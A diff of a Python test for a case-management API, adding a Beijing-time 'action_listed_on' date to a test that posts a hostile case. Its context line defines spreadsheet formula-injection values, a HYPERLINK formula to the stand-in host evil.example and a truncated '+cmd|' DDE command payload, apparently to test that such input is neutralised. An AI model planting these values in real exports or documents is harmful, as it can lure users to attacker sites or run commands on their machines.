@@ -204,7 +204,10 @@ EVIL = {"title": '=HYPERLINK("http://evil.example","点击")', "summary": "+cmd|
 
 def evil_case(api) -> None:
     officer = api.user("case_officer", "510104")
-    body = case_payload(**{k: v for k, v in EVIL.items() if v is not None}, received_on="2025-03-01")
+    # Listed in the special action today (Beijing): the monthly bulletin counts listed cases only.
+    today = (dt.datetime.now(dt.UTC) + dt.timedelta(hours=8)).date().isoformat()
+    body = case_payload(**{k: v for k, v in EVIL.items() if v is not None}, received_on="2025-03-01",
+                        action_listed_on=today)
     r = api.post("/api/cases", officer, json=body)
     assert r.status_code == 201, r.get_json()
 
